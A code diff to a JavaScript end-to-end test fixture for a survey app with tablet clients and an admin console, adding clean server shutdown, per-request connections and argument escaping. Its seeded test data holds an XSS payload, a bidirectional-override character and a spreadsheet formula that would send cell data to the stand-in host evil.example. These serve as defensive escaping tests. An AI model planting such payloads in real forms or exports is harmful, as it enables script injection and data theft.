@@ -23,8 +23,12 @@ export async function startOffice(bin) {
   }
   const admin = (words, input) => run('doorstep-server', [...words, '--data', data], input)
   let server
-  const stop = () => {
-    server?.kill()
+  const stop = async () => {
+    if (server && server.exitCode === null) {
+      const ended = new Promise((done) => server.once('exit', done))
+      server.kill()
+      await ended
+    }
     rmSync(folder, { recursive: true, force: true })
   }
   try {
@@ -49,19 +53,21 @@ export async function startOffice(bin) {
     for (const lang of ['zh', 'en']) worlds[lang] = await fill(lang, { wang, zhang, console_, scope, zhangId, folder })
     return { worlds, stop }
   } catch (error) {
-    stop()
+    await stop()
     throw error
   }
 }
 
 /** The console's API, as the browser will use it. */
 async function signIn(base) {
-  const response = await fetch(`${base}/v1/login`, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'liu', password }) })
+  const response = await fetch(`${base}/v1/login`, { method: 'POST', headers: { Connection: 'close', 'Content-Type': 'application/json' }, body: JSON.stringify({ name: 'liu', password }) })
   if (!response.ok) throw new Error(`login: ${response.status} ${await response.text()}`)
   const me = await response.json()
   const cookie = response.headers.get('set-cookie').split(';')[0]
   const ask = async (method, path, body) => {
-    const reply = await fetch(base + path, { method, headers: { Cookie: cookie, 'X-Doorstep-CSRF': me.csrf, ...(body ? { 'Content-Type': 'application/json' } : {}) }, body: body && JSON.stringify(body) })
+    // A connection of its own each time: the server closes idle ones, which a client that keeps them meets as a failure.
+    const headers = { Connection: 'close', Cookie: cookie, 'X-Doorstep-CSRF': me.csrf, ...(body ? { 'Content-Type': 'application/json' } : {}) }
+    const reply = await fetch(base + path, { method, headers, body: body && JSON.stringify(body) })
     if (!reply.ok) throw new Error(`${method} ${path}: ${reply.status} ${await reply.text()}`)
     return reply.json()
   }
@@ -77,24 +83,28 @@ function makeTablet({ folder, base, run, admin }, user) {
   const word = (...words) => run('doorstep-tablet', ['--data', data, '--pin-file', pin, ...words])
   word('enrol', '--server', base, '--token-file', code, '--name', `平板 ${user}`)
   const quote = (text) => JSON.stringify(text)
-  return {
-    sync: () => {
-      for (let round = 0; round < 5; round++) {
-        try {
-          return word('sync')
-        } catch (error) {
-          if (round === 4) throw error
-        }
+  const sync = () => {
+    for (let round = 0; round < 5; round++) {
+      try {
+        return word('sync')
+      } catch (error) {
+        if (round === 4) throw error
       }
-    },
+    }
+    return ''
+  }
+  sync()
+  return {
+    sync,
     /** Answers in one go: [[path, value | {file}]]; `record` for an edit. Prints nothing; returns the record's id. */
+    // "--": an id may begin with a hyphen.
     visit: (form, answers, record) => {
       const script = join(folder, `${user}.script`)
       const name = record ? quote(record) : '$it'
       writeFileSync(script, [
         ...(record ? [] : [`it = new ${form}`]),
-        ...answers.map(([path, value]) => (value?.file ? `attach ${name} ${quote(path)} ${quote(value.file)}` : value?.text ? `set --file ${quote(value.text)} ${name} ${quote(path)}` : `set ${name} ${quote(path)} ${quote(value)}`)),
-        `finish ${name}`,
+        ...answers.map(([path, value]) => (value?.file ? `attach -- ${name} ${quote(path)} ${quote(value.file)}` : value?.text ? `set --file ${quote(value.text)} -- ${name} ${quote(path)}` : `set -- ${name} ${quote(path)} ${quote(value)}`)),
+        `finish -- ${name}`,
       ].join('\n'))
       return /finished (\S+)/.exec(word('script', script))[1]
     },
@@ -120,7 +130,8 @@ async function fill(lang, { wang, zhang, console_, scope, zhangId, folder }) {
   wang.visit('needs_survey', survey(`${L}-502`, '2', 'facility svc', '5号楼前的单元门禁常常关不上。', 'gate.jpg'))
   wang.visit('needs_survey', survey(`${L}-503`, '4', 'facility env', '垃圾桶旁边味道大。'))
   const long = join(folder, `${lang}.long`)
-  writeFileSync(long, '居民'.repeat(50_000))
+  // Not one word again and again: that would pack more than a hundredfold, which the server takes for a bomb.
+  writeFileSync(long, Array.from({ length: 40_000 }, (_, i) => String.fromCodePoint(0x4e00 + ((i * 7919) % 20_000))).join(''))
   const bad = `<img src=x onerror="window.__hacked=1"> ${lang}`
   zhang.visit('visit', [['door', bad], ['people', '2'], ['remark', { text: long }], ['need', 'light']])
   zhang.visit('visit', [['door', `${lang}-formula`], ['people', '1'], ['remark', '=HYPERLINK("http://evil.example/"&A1,"x") \u202e午上\u202c <script>window.__hacked=1</script>']])
@@ -145,7 +156,7 @@ async function fill(lang, { wang, zhang, console_, scope, zhangId, folder }) {
     },
     giveBack: { find: `${L}-502`, label: say('最急需解决的问题及具体地点', 'The most urgent problem and where exactly') },
     approve: { find: `${L}-503` },
-    hostile: { find: `__hacked=1"> ${lang}`, texts: [bad], long: true },
+    hostile: { find: `__hacked=1"> ${lang}`, texts: [bad], long: 40_000 },
     formula: { find: `${lang}-formula`, texts: ['=HYPERLINK("http://evil.example/"&A1,"x")', '<script>window.__hacked=1</script>'], bidi: true },
     // The tablet of the assigned colleague changes an answer while the record is being looked at.
     behind: { find: `${L}-501`, change: () => { zhang.visit('', [['survey/closing/suggestion', '又想起一件事：单元门口再装一个扶手。']], shared); zhang.sync() } },
